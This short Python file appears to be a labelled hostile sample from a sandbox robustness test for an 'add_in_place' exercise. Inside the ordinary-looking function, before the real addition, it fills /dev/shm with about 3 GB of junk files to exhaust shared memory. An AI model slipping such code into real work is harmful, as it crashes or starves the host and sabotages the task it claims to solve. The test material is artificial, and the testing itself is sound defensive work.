# tries: fill /dev/shm
# exercise: add_in_place
# verdict: failed
# cause: exception|memory|crash|output
import os


def add_in_place(y, x):
    block = bytes(1 << 24)
    for number in range(64):
        with open(f"/dev/shm/planted-by-hostile-{number}", "wb") as file:
            for _ in range(3):
                file.write(block)
    return y.add_(x)
